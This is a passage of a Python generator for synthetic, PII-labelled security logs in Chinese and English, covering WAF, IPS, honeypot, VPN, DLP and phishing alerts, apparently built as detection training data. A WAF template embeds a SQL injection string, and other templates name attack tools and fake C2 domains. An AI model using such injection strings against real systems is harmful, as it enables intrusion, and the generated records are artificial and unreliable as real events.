               f"port {c.r.randint(1000, 60000)} cli {c.S(c.ip_pub(), 'IP_ADDRESS')})")
    else:
        msg = (f"Auth: ({c.r.randint(1, 99999)}) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [{c.S(u, 'PERSON')}] "
               f"(from client {c.D(c.ch(['wlc-01', 'ap-ctrl-hq']), 'hostname')} port 0 cli {c.D(c.mac('-', upper=True), 'mac_address')} "
               f"via TLS tunnel)")
    return f"{ts} : {msg}"


@tpl("zh_phishing_disposal")
def t_zh_phish(c):
    p = c.person("zh")
    d = c.local()
    look = c.ch(["corp-cn.top", "hr-service.xyz", "tax-gov-cn.com", "mail-notice.cc"])
    dept = c.ch(["人力资源部", "IT部", "财务部", "行政部"])
    subj = c.pick(lambda: c.ch(["关于2026年度个税汇算的通知", "邮箱容量已满请及时升级", "年终奖发放名单确认", "薪资调整通知"]),
                  lambda: f"{c.D(c.ch(COMPANIES_ZH), 'company')}官方旗舰店年终回馈，点击领取礼品卡",
                  lambda: f"《{c.D(c.ch(['鲁迅', '李白', '孔子']), 'public_figure')}全集》电子版限时免费领取")
    return (f"【钓鱼邮件处置记录】{d.month}月{d.day}日{d:%H:%M} 收到仿冒{dept}的钓鱼邮件，发件人 "
            f"{c.D(c.role_mail(look), 'role_mailbox')}（发信IP {c.S(c.ip_pub(), 'IP_ADDRESS')}），主题《{subj}》，投递至"
            f"{c.r.randint(3, 400)}名员工，其中{c.S(p.full, 'PERSON')}（{c.S(c.email(p, corp=c.corp, free=False), 'EMAIL_ADDRESS')}）"
            f"已点击链接并提交账号密码，已重置其密码，并在邮件网关拉黑发件域 {look}。")


@tpl("zh_shift_handover")
def t_zh_handover(c):
    a, b = c.person("zh"), c.person("zh")
    d = c.local()
    head = f"【值班交接记录】{d.year}-{d.month:02d}-{d.day:02d} 夜班 值班人：{c.S(a.full, 'PERSON')}，接班人：{c.S(b.full, 'PERSON')}。"
    item = c.pick(
        lambda: f"1. 23:14 态势感知告警 {c.S(c.ip_pub(), 'IP_ADDRESS')} 对 VPN 网关 {c.D(c.ip_server(1.0), 'server_ip')} 持续爆破，已在防火墙封禁；",
        lambda: f"1. 02:30 厂商驻场工程师来电反馈 WAF 规则 {c.D(c.ch(['1020012', '942100', '3001047']), 'rule_id')} 误报，回电 {c.S(c.cn_mobile(), 'PHONE_NUMBER')}；",
        lambda: f"1. 04:05 用户反馈账号 {c.S(c.email(c.person('zh'), corp=c.corp, free=False), 'EMAIL_ADDRESS')} 被锁定，已核实为本人操作并解锁；",
    )
    tail = c.ch(["2. 挖矿告警主机已隔离，待白班复核。", "2. 其余告警均为误报，无遗留事项。",
                 "2. 待跟进：EDR 离线终端 17 台。"])
    return head + item + tail + f" 工单 {c.D(c.ticket(), 'ticket_id')}"


@tpl("zh_sangfor_ac_behavior")
def t_zh_sangfor(c):
    p = c.person("zh")
    grp = c.ch(["/研发中心/安全部", "/财务部", "/市场部/华东区", "/总部/人力资源部"])
    user = f"{c.S(p.full, 'PERSON')}({c.S(p.login, 'PERSON')})"
    k = c.r.randrange(2)
    if k == 0:
        app = c.ch(["网盘存储/百度网盘[上传]", "即时通讯/微信[文件传输]", "代理工具/Shadowsocks", "P2P下载/迅雷"])
        body = (f"日志类型:应用控制, 用户:{user}, 用户组:{grp}, 源IP:{c.S(c.ip_priv(), 'IP_ADDRESS')}, "
                f"MAC:{c.D(c.mac('-'), 'mac_address')}, 应用名称:{app}, 动作:{c.ch(['拒绝', '允许', '记录'])}, "
                f"目的IP:{c.D(c.ip_pub(), 'server_ip')}, 目的端口:443")
    else:
        body = (f"日志类型:URL访问, 用户:{user}, 用户组:{grp}, 源IP:{c.S(c.ip_priv(), 'IP_ADDRESS')}, "
                f"URL:{c.ch(['https://pan.baidu.com/disk/main', 'https://www.aliyundrive.com/drive', 'http://mega.nz/', 'https://github.com/new'])}, "
                f"URL类别:{c.ch(['网络存储', '代码托管', '文件共享'])}, 动作:记录, 时间:{c.cn_ts()}")
    return f"<134>{c.syslog_ts()} {c.D(c.ch(['AC-1000', 'SANGFOR-AC', 'AC-HQ-01']), 'hostname')} AC: {body}"


@tpl("zh_sangfor_ac_mail_audit")
def t_zh_sangfor_mail(c):
    p = c.person("zh")
    att = c.ch(["客户清单.xlsx", "2026Q4财务报表.pdf", "源码.zip", "员工花名册.xls"])
    if c.r.random() < 0.5:
        body = (f"日志类型:邮件外发, 用户:{c.S(p.login, 'PERSON')}, 源IP:{c.S(c.ip_priv(), 'IP_ADDRESS')}, "
                f"发件人:{c.S(p.local + '@' + c.corp, 'EMAIL_ADDRESS')}, 收件人:{c.D(c.role_mail(c.ch(['competitor-tech.com', 'hr-partner.cn'])), 'role_mailbox')}, "
                f"主题:{c.ch(['资料', 'FW: 报价', '简历'])}, 附件:{att}, 动作:记录")
    else:
        body = (f"日志类型:WebMail外发, 用户:{c.S(p.login, 'PERSON')}, 发件人:{c.S(c.email(p, free=True), 'EMAIL_ADDRESS')}, "
                f"收件人:{c.S(c.email(c.person('zh'), free=True), 'EMAIL_ADDRESS')}, 主题:无, 附件:{att}, 动作:拒绝")
    return f"<134>{c.syslog_ts()} AC-1000 AC: {body}"


@tpl("zh_qianxin_tianqing_alert")
def t_zh_tianqing(c):
    p = c.person("zh")
    virus = c.ch(["Trojan.Win32.Agent.ahxq", "HackTool.Win32.Mimikatz.a", "Ransom.Win32.LockBit.gen", "Backdoor.Win32.CobaltStrike.b"])
    fname = c.ch(["svchost.exe", "发票.pdf.exe", "update.dll", "m64.exe"])
    return (f"【天擎】终端告警 终端名称:{c.D(c.ws_host(), 'hostname')} IP地址:{c.S(c.ip_priv(), 'IP_ADDRESS')} "
            f"MAC地址:{c.D(c.mac('-', upper=True), 'mac_address')} 登录用户:{c.S(p.login, 'PERSON')} 病毒名称:{virus} "
            f"文件路径:C:\\Users\\{c.S(p.login, 'PERSON')}\\AppData\\Local\\Temp\\{fname} MD5:{c.D(c.md5(), 'hash')} "
            f"处理结果:{c.ch(['已隔离', '已删除', '处理失败'])} 发现时间:{c.cn_ts()}")


@tpl("zh_360_endpoint_json")
def t_zh_360(c):
    p = c.person("zh")
    ev = {"event_type": c.ch(["virus_alert", "intrusion_prevention", "bruteforce_block"]),
          "client_name": c.D(c.ws_host(), "hostname"), "client_ip": c.S(c.ip_priv(), "IP_ADDRESS"),
          "user": c.S(p.full, "PERSON", "jsonu"), "group": c.ch(["默认分组", "财务终端", "研发终端"]),
          "virus_name": c.ch(["HEUR/QVM202.0.A3F1", "Trojan.Generic", "木马.远控"]),
          "file_path": "D:\\下载\\" + c.ch(["发票.exe", "报价单.scr", "工资条.zip"]),
          "sha1": c.D(c.sha1(), "hash"), "action": c.ch(["已删除", "已隔离", "信任"]), "time": c.cn_ts()}
    return c.jd(ev, ascii=True)


@tpl("zh_nsfocus_ips")
def t_zh_nsfocus(c):
    atk = c.S(c.ip_pub(), "IP_ADDRESS")
    if c.r.random() < 0.6:
        rid, name = c.ch([("41623", "Apache Log4j2 远程代码执行漏洞(CVE-2021-44228)"), ("24013", "SSH 暴力破解"),
                          ("50232", "Struts2 远程代码执行漏洞(S2-045)"), ("41731", "Fastjson 反序列化远程代码执行")])
        extra = ""
    else:
        rid, name = c.ch([("23996", "FTP弱口令登录"), ("24519", "Telnet弱口令登录"), ("25310", "MySQL弱口令登录")])
        extra = f" 用户名:{c.S(c.person('zh').login, 'PERSON')} 密码:{c.S(c.ch(WEAK_PASSWORDS), 'CREDENTIAL')}"
    return (f"NSFOCUS NIPS: {c.cn_ts()} 规则ID:{c.D(rid, 'rule_id')} 事件名称:{name} 源IP:{atk} 源端口:{c.port()} "
            f"目的IP:{c.D(c.ip_server(0.1), 'server_ip')} 目的端口:{c.ch([21, 22, 23, 3306, 8080])} 协议:TCP "
            f"动作:{c.ch(['阻断', '告警'])} 风险等级:{c.ch(['高', '中'])} 次数:{c.r.randint(1, 50)}{extra}")


@tpl("zh_dbapp_waf")
def t_zh_dbapp(c):
    p = c.person("zh")
    host = c.ch(["www.", "m.", "oa."]) + c.corp
    url = (f"{host}/login.do?username={c.S(p.login, 'PERSON', 'url')}&password={c.S(c.password(), 'CREDENTIAL', 'url')}"
           f"&captcha=" + quote("' or 1=1--", safe=""))
    f = ["发生时间/" + c.cn_ts(), "威胁/高", "事件/SQL注入", "请求方法/GET", "URL地址/" + url, "POST数据/",
         "服务器IP/" + c.D(c.ip_server(0.0), "server_ip"), "主机名/" + host, "服务器端口/80",
         "客户端IP/" + c.S(c.ip_pub(), "IP_ADDRESS"), f"客户端端口/{c.port()}", "客户端环境/" + c.ch(UA[:3]),
         "标签/SQL注入", "动作/阻断", "HTTP/S响应码/403", "攻击特征串/' or 1=1--",
         "触发规则/" + c.D("1001" + c.digits(4), "rule_id"), "访问唯一编号/" + c.digits(19, True),
         "国家/" + c.ch(["中国", "美国", "荷兰"]), "省/", "市/"]
    return "<14>DBAppWAF: " + ",".join(f)


@tpl("zh_shterm_bastion_session")
def t_zh_qizhi(c):
    p = c.person("zh")
    d = c.local()
    acct = c.ch(["oracle", "root", "administrator", "postgres"])
    return (f"齐治堡垒机 会话审计: 会话ID:{c.D(d.strftime('%Y%m%d%H%M%S') + c.digits(6), 'session_ref')} "
            f"运维人员:{c.S(p.full, 'PERSON')}({c.S(p.login, 'PERSON')}) 来源IP:{c.S(c.ip_priv(), 'IP_ADDRESS')} "
            f"目标设备:{c.ch(['oracle-db-01', 'core-sw-01', 'ad-dc-02'])}({c.D(c.ip_server(0.0), 'server_ip')}) "
            f"目标账号:{c.D(acct, 'system_account')} 协议:{c.ch(['SSH', 'RDP', 'SFTP'])} 开始时间:{c.cn_ts()} "
            f"操作:{c.ch(['登录成功', '登录失败(密码错误)', '会话被管理员阻断'])}")


@tpl("zh_db_audit")
def t_zh_dbaudit(c):
    tool = c.ch(["Navicat Premium", "DBeaver", "PL/SQL Developer", "mysql-cli"])
    if c.r.random() < 0.5:
        cond = f"mobile='{c.S(c.cn_mobile(0), 'PHONE_NUMBER')}'"
        cols = "name,id_card,mobile,address"
    else:
        cond = f"id_card='{c.S(c.cn_id(), 'CN_RESIDENT_ID')}'"
        cols = "cust_name,mobile,bank_card"
    return (f"【数据库审计】风险等级:高 规则:敏感表批量查询 客户端IP:{c.S(c.ip_priv(), 'IP_ADDRESS')} 客户端工具:{tool} "
            f"数据库用户:{c.D(c.ch(['app_ro', 'crm_app', 'dba']), 'system_account')} 服务器:{c.ip_server(0.0)}:3306 "
            f"语句:SELECT {cols} FROM t_customer WHERE {cond} 影响行数:1 审计流水号:{c.D(c.bad_serial18(), 'serial_number')} "
            f"执行时间:{c.cn_ts()}")


@tpl("zh_hfish_honeypot")
def t_zh_hfish(c):
    place = c.ch(["俄罗斯", "美国", "荷兰", "中国香港", "巴西", "越南"])
    svc = c.ch(["SSH", "MySQL", "Redis", "Telnet", "FTP"])
    pw = c.ch(WEAK_PASSWORDS) if c.r.random() < 0.7 else c.password()
    return (f"【HFish告警】攻击IP:{c.S(c.ip_pub() if c.r.random() < 0.9 else c.ip6(), 'IP_ADDRESS')} 攻击地区:{c.D(place, 'place')} "
            f"蜜罐类型:{svc} 节点:{c.D(c.ch(['honeypot-sz-01', 'hfish-bj-02', 'hp-cloud-03']), 'hostname')} "
            f"账号:{c.D(c.ch(TRIED_USERS), 'system_account')} 密码:{c.S(pw, 'CREDENTIAL')} 时间:{c.cn_ts()}")


@tpl("zh_iam_lockout")
def t_zh_iam(c):
    p = c.person("zh")
    n = c.r.randint(3, 10)
    return (f"[统一身份认证] {c.cn_ts()} 用户 {c.S(p.full, 'PERSON')}({c.S(p.login, 'PERSON')}) 连续{n}次密码错误，"
            f"账号已锁定{c.ch([15, 30, 60])}分钟，来源IP {c.S(c.ip_client(v6=0.1, priv=0.4), 'IP_ADDRESS')}，"
            f"客户端 {c.ch(['Chrome 131', 'Edge 131', '企业微信 4.1', 'Outlook'])}，应用 {c.ch(['OA系统', 'VPN', 'ERP', '邮件系统'])}，"
            f"事件ID {c.D(c.uuid(), 'uuid')}")


@tpl("zh_antifraud_iban")
def t_zh_iban(c):
    p = c.person("zh")
    d = c.local()
    payee = c.person(c.ch(["west", "west", "ja"]))
    amt = f"{c.r.randint(2, 90)},{c.digits(3)}"
    lead = f"【反诈预警】{d.month}月{d.day}日 监测到{c.ch(['财务部', '采购部', '子公司'])}员工"
    if c.r.random() < 0.5:
        who = f"{c.S(p.surname, 'PERSON')}{c.ch(['经理', '女士', '先生', '主管'])}"
        tail = f"收款人 {c.S(payee.full, 'PERSON')}"
    else:
        who = c.S(p.full, "PERSON")
        tail = f"收款方 {c.D(c.ch(COMPANIES_EN), 'company')} GmbH"
    return (f"{lead}{who}疑似遭遇“冒充海外供应商变更收款账户”诈骗，拟向境外账户 {c.S(c.iban(), 'IBAN_CODE')}（{tail}）"
            f"汇款 EUR {amt}，已电话劝阻并冻结付款流程，案件编号 {c.D(c.ticket(), 'ticket_id')}。")


@tpl("zh_ir_passport")
def t_zh_passport(c):
    d = c.local()
    if c.r.random() < 0.5:
        kind = c.ch(["en_US", "en_GB", "de_DE", "fr_FR", "ja"])
        p = c.person(kind)
        pp = c.passport({"en_US": "US", "en_GB": "GB", "de_DE": "DE", "fr_FR": "FR", "ja": "JP"}[kind])
        who = f"涉事外籍员工 {c.S(p.full, 'PERSON')}（护照号 {c.S(pp, 'PASSPORT')}）"
    else:
        p = c.person("zh")
        who = f"涉事员工{c.S(p.full, 'PERSON')}（出差报备护照号：{c.S(c.passport('CN'), 'PASSPORT')}）"
    return (f"【应急响应记录】{who}的域账号 {c.S(p.login, 'PERSON')} 于{d.month}月{d.day}日{d:%H:%M}在"
            f"{c.D(c.ch(PLACES_ZH[11:]), 'place')}登录VPN，与其出差行程不符，已临时禁用账号并通知其主管核实。")


@tpl("zh_parking_leak")
def t_zh_parking(c):
    p = c.person("zh")
    d = c.local()
    phone = c.pick(lambda: c.S(c.cn_mobile(), "PHONE_NUMBER"), lambda: c.S(c.cn_landline(), "PHONE_NUMBER"))
    if c.r.random() < 0.5:
        return (f"停车场管理系统遭拖库，泄露样本：车牌 {c.S(c.plate(), 'LICENSE_PLATE')}，车主 {c.S(p.surname, 'PERSON')}{c.ch(['先生', '女士'])}，"
                f"电话 {phone}，入场时间 {c.cn_ts()}，车场编号 {c.D('P' + c.digits(6), 'order_id')}。")
    return (f"{c.cn_ts()} 门禁车辆识别记录导出异常：{c.S(c.plate(), 'LICENSE_PLATE')}|{c.S(p.full, 'PERSON')}|{phone}|"
            f"{c.ch(['月租车', '临时车', '员工车辆'])}|{c.D(c.ch(['东门', '南门', 'B2出口']), 'place')}")


@tpl("zh_dingtalk_new_device")
def t_zh_dingtalk(c):
    p = c.person("zh")
    app = c.ch(["【钉钉安全中心】", "【企业微信】安全提醒：", "【飞书】账号安全通知："])
    if c.r.random() < 0.5:
        ph = c.S(c.cn_mobile(0), "PHONE_NUMBER")
    else:
        d = c.cn_mobile_digits()
        ph = c.D(d[:3] + "****" + d[-4:], "masked")
    return (f"{app}您的账号 {c.S(p.full, 'PERSON')}（{ph}）于{c.cn_ts()}在新设备“{c.ch(['iPhone 16 Pro', 'HUAWEI Mate 60', 'Windows PC', 'Xiaomi 14'])}”上登录，"
            f"登录IP {c.S(c.ip_client(v6=0.2, priv=0.0), 'IP_ADDRESS')}（{c.D(c.ch(PLACES_ZH), 'place')}），如非本人操作请立即修改密码。")


@tpl("zh_coremail_remote_login")
def t_zh_coremail(c):
    p = c.person("zh")
    return (f"Coremail 异地登录提醒：用户 {c.S(c.email(p, corp=c.corp, free=False), 'EMAIL_ADDRESS')} 于 {c.cn_ts()} 从 "
            f"{c.S(c.ip_client(v6=0.15, priv=0.0), 'IP_ADDRESS')}（{c.D(c.ch(PLACES_ZH[11:]), 'place')}）通过 "
            f"{c.ch(['IMAP', 'POP3', 'Web', 'ActiveSync'])} 登录，上次登录地：{c.ch(PLACES_ZH[:9])}，"
            f"风险等级：{c.ch(['高', '中'])}，已{c.ch(['发送短信提醒', '强制下线', '要求二次验证'])}。")


@tpl("zh_topsec_sslvpn")
def t_zh_topsec(c):
    p = c.person("zh")
    d = c.local()
    ok = c.r.random() < 0.6
    return (f'devid=3 date="{d:%Y/%m/%d %H:%M:%S}" dname={c.D(c.ch(["TopVPN-HQ", "TOPSEC-VPN01"]), "hostname")} logtype=9 pri=5 ver=0.3.0 '
            f"mod=sslvpn act=登录 result={'成功' if ok else '失败'} user={c.S(p.login, 'PERSON')} "
            f"src={c.S(c.ip_pub(), 'IP_ADDRESS')} "
            + (f"vip={c.S(c.ip_priv(), 'IP_ADDRESS')} " if ok else "")
            + f'dsp_msg="SSL VPN 用户{"登录成功" if ok else "认证失败：密码错误"}"')


@tpl("zh_pentest_weak_password")
def t_zh_pentest(c):
    p = c.person("zh")
    sysn = c.ch(["财务报销系统", "Jenkins", "Zabbix 监控平台", "Nacos 配置中心", "Harbor 镜像仓库"])
    return (f"【渗透测试发现】高危-弱口令：{sysn}（{c.D(c.ip_server(0.0), 'server_ip')}）存在弱口令账号 "
            f"{c.S(p.login, 'PERSON')}/{c.S(c.ch(WEAK_PASSWORDS) if c.r.random() < 0.6 else c.password(), 'CREDENTIAL')}，"
            f"该账号属于{c.ch(['财务部', '运维部', '研发中心'])}{c.S(p.full, 'PERSON')}，可直接登录后台，建议立即修改并启用双因素认证。")


@tpl("zh_insider_leak_notice")
def t_zh_insider(c):
    cust = c.person("zh")
    n = c.r.randint(200, 90000)
    if c.r.random() < 0.5:
        return (f"【内部通报】经查，{c.ch(['客服中心', '销售部', '外包坐席'])}某员工私自导出客户信息并通过微信出售，共{n}条，"
                f"其中包括客户{c.S(cust.full, 'PERSON')}（手机{c.S(c.cn_mobile(), 'PHONE_NUMBER')}，银行卡{c.S(c.card('unionpay'), 'CREDIT_CARD')}）等，"
                f"已移交公安机关。")
    staff = c.person("zh")
    return (f"【内部通报】{c.ch(['客服中心', '销售部'])}员工{c.S(staff.full, 'PERSON')}违规查询并外传客户"
            f"{c.S(cust.surname, 'PERSON')}{c.ch(['女士', '先生'])}的个人信息（手机{c.S(c.cn_mobile(), 'PHONE_NUMBER')}），"
            f"共涉及{n}条记录，已予以辞退。")


@tpl("zh_soc_alert_json")
def t_zh_soc_json(c):
    p = c.person("zh")
    ev = {"告警ID": c.D(c.alert_id11(), "event_id"), "告警名称": c.ch(["主机外联C2服务器", "疑似Cobalt Strike通信", "DNS隧道外传"]),
          "威胁等级": c.ch(["高危", "严重"]), "攻击者IP": c.S(c.ip_pub(), "IP_ADDRESS"),
          "受害者IP": c.S(c.ip_priv(), "IP_ADDRESS"), "受害主机": c.D(c.ws_host(), "hostname"),
          "登录用户": c.S(p.full, "PERSON", "json"), "情报标签": [c.ch(["Cobalt Strike", "APT", "挖矿", "远控木马"])],
          "IOC": c.D(c.ch(["update-msft.top", "cdn-static.xyz", "api-telemetry.cc"]), "domain"),
          "首次发现": c.cn_ts(), "处置状态": c.ch(["待处置", "已封禁", "研判中"])}
    return c.jd(ev, sep=(", ", ": ")) if c.r.random() < 0.5 else c.jd(ev)


@tpl("zh_credential_stuffing")
def t_zh_stuffing(c):
    n = c.r.randint(30, 5000)
    return (f"【业务风控】检测到撞库攻击：来源IP {c.S(c.ip_pub() if c.r.random() < 0.85 else c.ip6(), 'IP_ADDRESS')} 在10分钟内"
            f"尝试登录{n}个账号，其中成功2个：{c.S(c.cn_mobile(0), 'PHONE_NUMBER')}、{c.S(c.cn_mobile(), 'PHONE_NUMBER')}，"
            f"命中策略 {c.D('RC-' + c.digits(5), 'rule_id')}，已对上述账号强制下线并触发短信验证。")


@tpl("sir_ticket_work_note")
def t_sir_note(c):
    p = c.person(c.ch(["en_US", "en_GB", "de_DE", "fr_FR", "es_ES"]))
    tk = c.D("SIR" + c.digits(7), "ticket_id")
    k = c.r.randrange(3)
    if k == 0:
        return (f"{tk} work note ({c.iso(0)}): Called {c.title_en()} {c.S(p.last, 'PERSON')} who confirmed they did not "
                f"approve the MFA push from {c.S(c.ip_pub(), 'IP_ADDRESS')}; password reset, all sessions revoked, "
                f"laptop {c.D(c.ws_host(), 'hostname')} queued for reimage.")
    if k == 1:
        dob = f"{c.r.randint(1955, 2001)}-{c.r.randint(1, 12):02d}-{c.r.randint(1, 28):02d}"
        return (f"{tk} work note: exposed record sample from paste site -> name={c.S(p.full, 'PERSON')}; "
                f"SSN={c.S(c.ssn(), 'US_SSN')}; DOB={dob}; source={c.ch(['pastebin', 'breachforums mirror', 'telegram'])}. "
                f"Legal notified per breach playbook.")
    return (f"{tk} work note: {c.title_en()} {c.S(p.last, 'PERSON')} (Finance) forwarded the W-2 request; reply-to was "
            f"{c.S(c.email(c.person('west'), free=True), 'EMAIL_ADDRESS')}, relayed via {c.D(c.ip_server(1.0), 'server_ip')}. "
            f"No data sent.")


@tpl("keycloak_event")
def t_keycloak(c):
    p = c.person("cnwest")
    d = c.local()
    ts = d.strftime("%Y-%m-%d %H:%M:%S,") + f"{d.microsecond // 1000:03d}"
    typ, err = c.ch([("LOGIN_ERROR", "invalid_user_credentials"), ("LOGIN", None), ("LOGIN_ERROR", "user_temporarily_disabled"),
                     ("CODE_TO_TOKEN_ERROR", "invalid_code")])
    lvl = "WARN " if err else "DEBUG"
    uid = c.D(c.uuid(), "uuid") if not err or err != "invalid_user_credentials" else "null"
    parts = [f"type={typ}", f"realmId={c.uuid()}", f"realmName={c.ch(['corp', 'employees', 'customers'])}",
             f"clientId={c.ch(['account-console', 'grafana', 'gitlab', 'vault'])}", f"userId={uid}",
             f"ipAddress={c.S(c.ip_client(v6=0.1, priv=0.3), 'IP_ADDRESS')}"]
    if err:
        parts.append(f"error={err}")
    parts += ["auth_method=openid-connect", "auth_type=code",
              f"redirect_uri=https://{c.ch(['grafana', 'gitlab', 'vault'])}.{c.corp}/login/generic_oauth",
              f"code_id={c.D(c.uuid(), 'uuid')}", f"username={c.S(p.login, 'PERSON')}"]
    return f"{ts} {lvl} [org.keycloak.events] (executor-thread-{c.r.randint(1, 60)}) " + ", ".join(parts)


@tpl("openvpn_server_log")
def t_openvpn(c):
    p = c.person("cnwest")
    ip = c.ip_client(v6=0.0, priv=0.0)
    port = c.port()
    d = c.local()
    ts = d.strftime("%a %b %d %H:%M:%S %Y").replace(f" {d.day:02d} ", f" {d.day:2d} ")
    k = c.r.randrange(3)
    if k == 0:
        msg = (f"{c.S(ip, 'IP_ADDRESS')}:{port} [{c.S(p.login, 'PERSON')}] Peer Connection Initiated with "
               f"[AF_INET]{c.S(ip, 'IP_ADDRESS')}:{port}")
    elif k == 1:
        msg = (f"{c.S(p.login, 'PERSON')}/{c.S(ip, 'IP_ADDRESS')}:{port} MULTI_sva: pool returned "
               f"IPv4={c.S(c.ip_priv(), 'IP_ADDRESS')}, IPv6=(Not enabled)")
    elif c.r.random() < 0.5:
        msg = (f"{c.S(ip, 'IP_ADDRESS')}:{port} TLS: Username/Password authentication succeeded for username "
               f"'{c.S(p.login, 'PERSON')}'")
    else:
        msg = f"{c.S(ip, 'IP_ADDRESS')}:{port} TLS Auth Error: Auth Username/Password verification failed for peer"
    return f"{ts} {msg}"


@tpl("zh_phish_drill_result")
def t_zh_drill(c):
    p = c.person("zh")
    dept = c.ch(["财务部", "人力资源部", "研发中心", "法务部", "销售一部"])
    act = c.ch(["点击链接并提交了域账号密码", "打开了附件（宏已启用）", "点击链接但未提交", "回复了邮件并提供了手机号"])
    extra = ""
    if "手机号" in act:
        extra = f"：{c.S(c.cn_mobile(), 'PHONE_NUMBER')}"
    return (f"【钓鱼演练结果】第{c.r.randint(1, 4)}轮 {dept} {c.S(p.full, 'PERSON')}（工号 {c.D(c.digits(8, True), 'user_id')}）"
            f"{act}{extra}，演练邮件发件人 {c.D(c.role_mail('corp-security-test.cn'), 'role_mailbox')}，已安排补训。")


@tpl("zh_endpoint_dlp_usb")
def t_zh_usb(c):
    p = c.person("zh")
    f = c.ch(["客户身份证汇总.xlsx", "征信报告批量.pdf", "会员导出_20261201.csv"])
    return (f"【终端DLP】用户 {c.S(p.full, 'PERSON')}({c.S(p.login, 'PERSON')}) 在 {c.D(c.ws_host(), 'hostname')} 向U盘"
            f"（序列号 {c.D(c.alnum(16, string.ascii_uppercase + string.digits), 'serial_number')}）拷贝文件 {f}，命中规则：身份证号，"
            f"样例 {c.S(c.cn_id(), 'CN_RESIDENT_ID')}，动作：{c.ch(['阻断', '审计', '加密外发'])}，时间 {c.cn_ts()}")


# === end of templates ===


# ---------------------------------------------------------------------------
# public API
# ---------------------------------------------------------------------------
def blind_log10(n: int, seed: int = 0) -> list[dict]:
    rng = random.Random(seed)
    gen = Gen(rng)
    order = list(range(len(TEMPLATES)))
    rng.shuffle(order)
    out = []
    for i in range(n):
        tno = order[i % len(order)]
        clean = rng.random() < 0.1
        err = None
        for _ in range(300):
            ctx = Ctx(gen, clean)
            rec = ctx.assemble(TEMPLATES[tno](ctx), tno)
            err = check_record(rec)
            if err is None:
                break
        else:
            raise RuntimeError(f"template {tno} ({TEMPLATE_NAMES[tno]}) keeps failing: {err}")
        out.append(rec)
    return out


def _main() -> None:
    import collections
    import sys
    recs = blind_log10(5000, seed=0)
    validate(recs)
    types = collections.Counter(lab for r in recs for _, _, lab in r["spans"])
    kinds = collections.Counter(lab for r in recs for _, _, lab in r["decoys"])
    tmpl = collections.Counter(r["template"] for r in recs)
    masked = sum(1 for r in recs if not r["spans"] and any(k == "masked" for _, _, k in r["decoys"]))
    nospan = sum(1 for r in recs if not r["spans"])
    print(f"{len(recs)} records, {len(TEMPLATES)} templates, all valid")
    print(f"templates used: {len(tmpl)}; records without spans: {nospan} (with masked placeholders: {masked})")
    print("TYPE counts:")
    for k in TYPES:
        print(f"  {k:16s} {types.get(k, 0)}")
    print("decoy KIND counts:")
    for k, v in sorted(kinds.items(), key=lambda kv: -kv[1]):
        print(f"  {k:16s} {v}")
    if "-v" in sys.argv:
        for r in recs[:len(TEMPLATES)]:
            print(r["template"], TEMPLATE_NAMES[r["template"]], "|", r["text"])
            for s, e, lab in r["spans"]:
                print("    S", lab, repr(r["text"][s:e]))
            for s, e, lab in r["decoys"]:
                print("    D", lab, repr(r["text"][s:e]))


if __name__ == "__main__":
    _main()
